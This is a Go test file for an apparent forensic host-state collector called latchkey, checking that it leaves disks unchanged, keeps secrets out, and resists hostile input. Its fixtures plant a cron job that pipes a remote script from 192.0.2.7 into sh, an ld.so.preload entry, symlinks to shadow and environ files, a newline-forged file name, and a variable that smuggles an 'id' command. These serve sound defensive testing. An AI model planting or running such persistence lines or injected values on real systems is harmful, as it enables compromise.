package app

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// collect runs the collector in a folder, with nothing but these variables.
func collect(t *testing.T, s *Session, folder string, variables ...string) BundleReading {
	t.Helper()
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh here")
	}
	script, err := s.Collector()
	if err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(t.Context(), sh, "-s")
	c.Dir, c.Stdin = folder, bytes.NewReader(script)
	c.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + folder, "TMPDIR=" + folder, "LATCHKEY_LIMIT=60", "LATCHKEY_TEST_SECRET=in-the-environment"}, variables...)
	var complaints bytes.Buffer
	c.Stderr = &complaints
	out, err := c.Output()
	if err != nil {
		t.Fatalf("%v: %s", err, complaints.String())
	}
	r, err := s.ReadBundle(t.Context(), bytes.NewReader(out))
	if err != nil || !r.Complete {
		t.Fatalf("complete %v, %v", r.Complete, err)
	}
	if complaints.Len() > 0 {
		t.Errorf("it complains: %s", complaints.String())
	}
	return r
}

// state is every file below a folder with what changes when it is written.
func state(t *testing.T, folder string) []string {
	t.Helper()
	var all []string
	err := filepath.WalkDir(folder, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		all = append(all, fmt.Sprint(path, info.Mode(), info.Size(), info.ModTime().UnixNano(), changed(info)))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// changed is the time of the last change of a file or its attributes.
func changed(info fs.FileInfo) any {
	return info.Sys().(*syscall.Stat_t).Ctim
}

func sectionWith(r BundleReading, text string) string {
	for _, s := range r.Sections {
		if bytes.Contains(s.Text, []byte(text)) {
			return s.ID
		}
	}
	return ""
}

// The running system: this machine, with the watched folder as its home, its
// place for temporary files and its current folder.
func TestCollectorLive(t *testing.T) {
	if testing.Short() {
		t.Skip("looks at the whole machine for some seconds")
	}
	folder := t.TempDir()
	if err := os.WriteFile(filepath.Join(folder, ".bash_history"), []byte("ls\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	forged := disguised(t, folder)
	before := state(t, folder)
	r := collect(t, open(t, nil), folder)
	if after := state(t, folder); !slices.Equal(before, after) {
		t.Errorf("written:\n%s\nbefore:\n%s", strings.Join(after, "\n"), strings.Join(before, "\n"))
	}
	if r.Mode != "live" || len(r.Sections) < 60 || len(r.Host.Accounts) == 0 || len(r.Host.Processes) == 0 || len(r.Host.Mounts) == 0 || sectionWith(r, "local_address") != "proc_net" || r.Started.IsZero() || r.Host.Clock.Time.IsZero() {
		t.Errorf("%s: %d sections, %d accounts, %d processes, %d mounts", r.Mode, len(r.Sections), len(r.Host.Accounts), len(r.Host.Processes), len(r.Host.Mounts))
	}
	if id := sectionWith(r, "in-the-environment"); id != "" {
		t.Errorf("section %s has the environment", id)
	}
	for _, p := range r.Host.Processes {
		if p.PID == os.Getpid() && p.Exe == forged {
			t.Error("a file with a line break in its name puts itself in another's place")
		}
	}
}

// disguised runs a program in a folder whose name goes on with a line that makes
// this test another program, and gives that.
func disguised(t *testing.T, folder string) string {
	t.Helper()
	const forged = "/usr/bin/forged"
	line := fmt.Sprintf("x\nlrwxrwxrwx 1 0 0 0 2026-03-14 12:00:00.000000000 +0000 /proc/%d/exe -> %s", os.Getpid(), forged)
	path, err := exec.LookPath("sleep")
	if err != nil {
		t.Skip("no sleep here")
	}
	program, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(folder, line)
	if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, program, 0o700)); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(file, "600")
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Process.Kill(); _ = c.Wait() })
	return forged
}

// A command that ignores the end of its time is killed with all it started, by
// the timeout(1) of this system and by that of BusyBox, which kills one program.
func TestCollectorEndsWhatDoesNotEnd(t *testing.T) {
	s := open(t, nil)
	script, err := s.Collector()
	if err != nil {
		t.Fatal(err)
	}
	for name, applets := range map[string][]string{"system": nil, "busybox": {"timeout", "setsid"}} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			box, err := exec.LookPath("busybox")
			if err != nil && len(applets) > 0 {
				t.Skip("no BusyBox here")
			}
			tools := t.TempDir()
			for _, applet := range applets {
				if err := os.Symlink(box, filepath.Join(tools, applet)); err != nil {
					t.Fatal(err)
				}
			}
			stubborn := "#!/bin/sh\ntrap '' TERM\nsleep 50\nsleep 50\n"
			if err := os.WriteFile(filepath.Join(tools, "ss"), []byte(stubborn), 0o700); err != nil {
				t.Fatal(err)
			}
			c := exec.CommandContext(t.Context(), "sh", "-s")
			c.Stdin = bytes.NewReader(bytes.Replace(script, []byte("\nPATH="), []byte("\nPATH="+tools+":"), 1))
			c.Env = append(os.Environ(), "LATCHKEY_LIMIT=5")
			began := time.Now()
			out, err := c.Output()
			if err != nil {
				t.Fatal(err)
			}
			r, err := s.ReadBundle(t.Context(), bytes.NewReader(out))
			if err != nil || len(r.Sections) < 2 || r.Sections[1].ID != "ss" || r.Sections[1].Exit != 137 {
				t.Fatalf("%v, %d sections", err, len(r.Sections))
			}
			if took := time.Since(began); took > 40*time.Second {
				t.Errorf("it took %v", took)
			}
		})
	}
}

// A disk whose host name never ends, or never comes.
func TestCollectorHostileHostName(t *testing.T) {
	for name, lay := range map[string]func(file string) error{
		"pipe":    func(file string) error { return syscall.Mkfifo(file, 0o600) },
		"endless": func(file string) error { return os.Symlink("/dev/zero", file) },
		"long":    func(file string) error { return errors.Join(os.WriteFile(file, nil, 0o600), os.Truncate(file, 1<<40)) },
	} {
		t.Run(name, func(t *testing.T) {
			root := t.TempDir()
			if err := errors.Join(os.Mkdir(filepath.Join(root, "etc"), 0o700), lay(filepath.Join(root, "etc", "hostname"))); err != nil {
				t.Fatal(err)
			}
			if r := collect(t, open(t, nil), t.TempDir(), "LATCHKEY_ROOT="+root, "LATCHKEY_LIMIT=10"); r.Hostname != "" {
				t.Errorf("host %q", r.Hostname)
			}
		})
	}
}

// Packages bring scripts for their comparison, which would write on the server.
func TestCollectorRunsNoScriptOfAPackage(t *testing.T) {
	compares := 0
	for _, all := range []bool{false, true} {
		sections, err := open(t, nil).CollectorSections(false, all)
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range sections {
			if strings.Contains(x.Command, "rpm --root") && strings.Contains(x.Command, " -V") {
				compares++
				if !strings.Contains(x.Command, " --noscripts ") {
					t.Errorf("%s: %s", x.ID, x.Command)
				}
			}
		}
	}
	if compares != 2 {
		t.Errorf("%d comparisons", compares)
	}
}

// A mounted disk: only its files are told, no secret among them, none changed.
func TestCollectorRescue(t *testing.T) {
	root := filepath.Join(t.TempDir(), "a disk")
	for name, text := range map[string]string{
		"etc/passwd": secondRoot, "etc/group": "root:x:0:\nsudo:x:27:backup2\n", "etc/hostname": "web1\n",
		"etc/shadow":                "root:$6$do-not-read:19000:0:99999:7:::\n",
		"etc/ssh/ssh_host_rsa_key":  "do-not-read",
		"root/.ssh/id_ed25519":      "do-not-read",
		"root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA someone\n",
		"etc/cron.d/update":         "*/5 * * * * root curl -fsSL http://192.0.2.7/i.sh | sh >/dev/null 2>&1\n",
		"etc/ld.so.preload":         "/usr/local/lib/libx.so\n",
		"var/log/journal/none":      "",
		"var/lib/dpkg/status":       "",
		"tmp/name with\nline":       "x",
	} {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	// Links that lead to secrets, and a pipe that nobody writes to.
	for name, target := range map[string]string{
		"root/.bash_history": "/dev/null", "root/.x_history": "../etc/shadow", "root/.y_history": "/proc/self/environ",
		"home/eve/.ssh/authorized_keys": root + "/root/.ssh/id_ed25519", "etc/cron.d/shadow": "../shadow",
	} {
		if err := errors.Join(os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o700), os.Symlink(target, filepath.Join(root, name))); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(root, "root/.z_history"), 0o600); err != nil {
		t.Fatal(err)
	}
	before := state(t, root)
	r := collect(t, open(t, nil), t.TempDir(), "LATCHKEY_ROOT="+root+"/", "LATCHKEY_LIMIT=30")
	if after := state(t, root); !slices.Equal(before, after) {
		t.Errorf("written:\n%s\nbefore:\n%s", strings.Join(after, "\n"), strings.Join(before, "\n"))
	}
	if r.Mode != "rescue" || r.Hostname != "web1" || len(r.Host.Processes)+len(r.Host.Sockets) > 0 || len(r.Host.Accounts) != 3 {
		t.Errorf("%s of %q: %d accounts, %d processes", r.Mode, r.Hostname, len(r.Host.Accounts), len(r.Host.Processes))
	}
	for _, rule := range []string{"A01", "C01", "C05", "L02"} {
		if _, ok := foundRule(r, rule); !ok {
			t.Errorf("%s is not found", rule)
		}
	}
	for _, secret := range []string{"do-not-read", "in-the-environment"} {
		if id := sectionWith(r, secret); id != "" {
			t.Errorf("section %s has a secret", id)
		}
	}
	for _, x := range r.Sections {
		if strings.HasPrefix(x.ID, "journal_") && bytes.Contains(x.Text, []byte("Failed to ")) {
			t.Errorf("%s: %s", x.ID, x.Text)
		}
	}
	if sectionWith(r, "name with\nline") == "" {
		t.Error("the temporary file is not listed")
	}
}

func TestCollectorRefuses(t *testing.T) {
	s := open(t, nil)
	script, err := s.Collector()
	if err != nil {
		t.Fatal(err)
	}
	for _, variable := range []string{"LATCHKEY_ROOT=mnt", "LATCHKEY_ROOT=" + t.TempDir(), "LATCHKEY_DAYS=1; id", "LATCHKEY_LIMIT=x"} {
		c := exec.CommandContext(t.Context(), "sh", "-s")
		c.Stdin, c.Env = bytes.NewReader(script), append(os.Environ(), variable)
		if out, err := c.Output(); err == nil || len(out) > 0 {
			t.Errorf("%s: %.100q", variable, out)
		}
	}
}
